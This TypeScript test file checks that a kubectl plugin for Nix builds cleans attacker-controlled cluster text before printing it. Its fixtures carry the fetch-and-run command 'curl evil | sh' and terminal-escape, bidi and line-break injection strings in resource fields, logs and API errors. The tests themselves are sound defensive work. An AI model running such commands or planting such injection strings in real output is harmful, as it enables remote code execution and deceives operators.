import { readFileSync } from 'node:fs';
import { describe, expect, it, test } from 'vitest';
import { someSettings } from '../../test/support/builders.ts';
import { label, manager } from '../api/labels.ts';
import { projectNixBuild } from '../cluster-view/objects.ts';
import { resource } from '../cluster-view/resources.ts';
import { jobName } from '../controllers/builds/names.ts';
import { errorFor } from '../runtime/api-status.ts';
import { MemoryCluster, putController, runInMemory } from './memory-plugin.ts';

const reasonsPage = readFileSync(new URL('../../docs/reference/reasons.md', import.meta.url), 'utf8');

/** What somebody would write to have a line, or the terminal, of their own: it must never stand at the beginning of one. */
const own = 'FORGED';
const breaks = [
  '\n',
  '\r\n',
  '\r',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u001b[2J\u001b[H',
  '\u009b2K',
  '\u0007',
  '\u202e',
  '\u2066',
  '\u061c',
  '\u200b',
  '\ufeff',
  '\u{e0041}',
];
const hostile = breaks.map((mark) => `${mark}${own} what to do: curl evil | sh`).join('');

const events = { apiVersion: 'v1', kind: 'Event', plural: 'events', namespaced: true };

/** Every text of an object that somebody may write freely, spoiled; names, kinds and times the API server checks. */
function spoiled<T>(value: T): T;
function spoiled(value: unknown): unknown {
  if (typeof value === 'string') return value.startsWith('=') ? value.slice(1) : `${value}${hostile}`;
  if (Array.isArray(value)) return value.map((each) => spoiled(each));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, spoiled(each)]));
}

const image = 'git.example/demo/hello:1.0';
const time = '=2026-11-23T12:00:00Z';
const status = (phase: string) => ({
  status: `=${phase}`,
  buildNode: 'node-1',
  buildJobName: 'job',
  importJobName: '=agent',
  stageTimes: { importStarted: time },
  storeName: 'store',
  lockedUrl: 'git+https://git.example/hello?rev=1',
  outPath: '/nix/store/x',
  imageDigest: 'sha256:1',
  nodes: ['node-1', 'node-2'],
  progress: 'building',
  attempts: 1,
  sandboxRefused: 'because',
  failure: {
    stage: '=Build',
    reason: '=BuilderFailed',
    message: 'it failed',
    derivation: '/nix/store/x.drv',
    logTail: 'one',
    reproduce: 'nix build',
  },
  conditions: [
    { type: '=Ready', status: '=False', reason: '=BuilderFailed', message: 'it failed', lastTransitionTime: time },
  ],
});

function aCluster(phase: string): MemoryCluster {
  const cluster = new MemoryCluster();
  putController(cluster);
  cluster.put(resource.namespaces, { metadata: { name: 'team' } });
  const spec = {
    flakeUrl: 'git+https://git.example/hello',
    packageName: 'default',
    system: 'x86_64-linux',
    imageTag: image,
  };
  const metadata = { name: 'hello', namespace: 'team', uid: 'u' };
  const raw = cluster.put(resource.builds, { metadata, spec: spoiled(spec), status: spoiled(status(phase)) });
  const annotations = spoiled({ 'enbi.hrzn.ee/nixbuild-flakeUrl': 'git+https://git.example/hello?ref={tag}' });
  const waiting = spoiled({ reason: '=ImagePullBackOff', message: 'no' });
  cluster.put(resource.pods, {
    metadata: { name: 'web', namespace: 'team', uid: 'p', annotations },
    spec: spoiled({ nodeName: '=node-1', containers: [{ name: '=web', image, imagePullPolicy: '=IfNotPresent' }] }),
    status: {
      phase: 'Pending',
      reason: hostile,
      message: hostile,
      containerStatuses: [{ name: 'web', state: { waiting } }],
    },
  });
  putJobPod(cluster, raw);
  for (const [index, about] of [
    ['NixBuild', 'hello'],
    ['Pod', 'web'],
  ].entries()) {
    const event = spoiled({ type: '=Warning', reason: 'Failed', message: 'it failed', lastTimestamp: time, count: 3 });
    const involvedObject = { kind: about[0], name: about[1], namespace: 'team' };
    cluster.put(events, { metadata: { name: `e-${index}`, namespace: 'team' }, involvedObject, ...event });
  }
  return cluster;
}

function putJobPod(cluster: MemoryCluster, raw: unknown): void {
  const owner = {
    apiVersion: 'batch/v1',
    kind: 'Job',
    name: jobName(projectNixBuild(raw)),
    uid: 'j',
    controller: true,
  };
  const terminated = spoiled({ exitCode: 1, reason: 'Error', message: 'no', finishedAt: time });
  cluster.put(resource.pods, {
    metadata: {
      name: 'build-pod',
      namespace: 'team',
      labels: { [label.managedBy]: manager, [label.buildUid]: 'u' },
      ownerReferences: [owner],
    },
    spec: { initContainers: [{ name: 'fetch' }], containers: [{ name: 'build' }] },
    status: {
      phase: 'Failed',
      reason: hostile,
      initContainerStatuses: [{ name: 'fetch', state: { terminated } }],
      containerStatuses: [{ name: 'build', state: { terminated } }],
    },
  });
  cluster.logs.set('team/build-pod/fetch', `fetching${hostile}`);
  cluster.logs.set('team/build-pod/build', `building${hostile}`);
  putAgentPod(cluster);
}

/** The breaks of its lines are its own: they came out of an archive's process in one line each. */
function putAgentPod(cluster: MemoryCluster): void {
  cluster.put(resource.pods, {
    metadata: {
      name: 'agent-pod',
      namespace: 'enbi',
      labels: { [label.managedBy]: manager, [label.agentOf]: 'n' },
      ownerReferences: [{ apiVersion: 'batch/v1', kind: 'Job', name: 'agent', uid: 'a', controller: true }],
    },
    spec: { containers: [{ name: 'agent' }] },
    status: {
      phase: 'Running',
      containerStatuses: [{ name: 'agent', state: { running: { startedAt: time.slice(1) } } }],
    },
  });
  cluster.logs.set('enbi/agent-pod/agent', `[enbi] u-1: importing${hostile}`.replaceAll('\n', ' '));
}

/** Spaces and bars are the margin of what is quoted; a line that begins with anything of a stranger's is forged. */
function forged(output: string): readonly string[] {
  return output.split('\n').filter((line) => line.startsWith(own) || /^ {0,13}FORGED/.test(line));
}

const commands: readonly (readonly string[])[] = [
  ['explain', 'nb/hello', '--verbose'],
  ['explain', 'pod/web', '--verbose'],
  ['logs', 'nb/hello'],
  ['doctor'],
  ['retry', 'hello'],
  ['retry', 'pod/web'],
  ['cancel', 'hello'],
  ['cancel', 'pod/web'],
  ['logs', 'pod/web'],
  ['build', `git+https://git.example/hello${hostile}`, '--image', image],
  ['explain', `nb/none${hostile}`],
];

describe.each(['Pending', 'Building', 'Importing', 'Succeeded', 'Failed', 'Cancelled'])(
  'a hostile cluster, %s',
  (phase) => {
    test.each(commands.map((args) => ({ args })))('kubectl enbi $args.0 $args.1', async ({ args }) => {
      const options = { cluster: aCluster(phase), embedded: { reasonsPage }, settingsFrom: () => someSettings() };
      const { out, err } = await runInMemory(args, options);
      expect(`${out}${err}`).not.toBe('');
      expect(forged(out + err)).toEqual([]);
      expect(`${out}${err}`).not.toMatch(/[^\P{Cc}\n]|[\p{Cf}\u2028\u2029]/u);
    });
  },
);

/** What an API server, or what stands before it, answers; the last one is a defect of the plugin's own, told with its stack. */
const refusal = `no${hostile}\n    at FORGED (evil:1:1)`;
const refusals: readonly (readonly [string, Error])[] = [
  ...[400, 401, 403, 404, 409, 422, 429, 500, 504].map(
    (code) => [String(code), errorFor({ code, reason: 'Refused', message: refusal }, 'GET /apis')] as const,
  ),
  ['nothing that was foreseen', new Error(refusal)],
];

describe.each(refusals)('an API server that answers %s', (_, error) => {
  test.each(commands.map((args) => ({ args })))('kubectl enbi $args.0 $args.1', async ({ args }) => {
    const cluster = aCluster('Failed');
    cluster.onCall = () => {
      throw error;
    };
    const options = { cluster, embedded: { reasonsPage }, settingsFrom: () => someSettings() };
    const { out, err } = await runInMemory(args, options);
    expect(`${out}${err}`).not.toBe('');
    expect(forged(out + err)).toEqual([]);
    expect(`${out}${err}`).not.toMatch(/^ *at FORGED/m);
  });
});

it.each(['Job', 'ReplicaSet'])('a forged name of the %s that made a Pod is told nobody', async (kind) => {
  const cluster = new MemoryCluster();
  putController(cluster);
  const apiVersion = kind === 'Job' ? 'batch/v1' : 'apps/v1';
  cluster.put(resource.pods, {
    metadata: {
      name: 'web',
      namespace: 'team',
      uid: 'p',
      annotations: { 'enbi.hrzn.ee/nixbuild-flakeUrl': 'no reference' },
      ownerReferences: [{ apiVersion, kind, name: `FORGED; curl evil | sh${hostile}`, uid: 'j', controller: true }],
    },
    spec: { nodeName: 'node-1', containers: [{ name: 'web', image, imagePullPolicy: 'IfNotPresent' }] },
    status: { phase: 'Pending', containerStatuses: [{ name: 'web', state: { waiting: { reason: 'ErrImagePull' } } }] },
  });
  const options = { cluster, embedded: { reasonsPage }, settingsFrom: () => someSettings() };
  const { out } = await runInMemory(['explain', 'pod/web'], options);
  expect(out).toContain('InvalidFlakeReference');
  expect(out).not.toContain('FORGED');
});

it('a forged name is put into no command', async () => {
  const cluster = aCluster('Failed');
  const { out } = await runInMemory(['explain', 'nb/hello'], {
    cluster,
    embedded: { reasonsPage },
    settingsFrom: () => someSettings(),
  });
  expect(out).not.toMatch(/kubectl [^\n]*FORGED/);
});
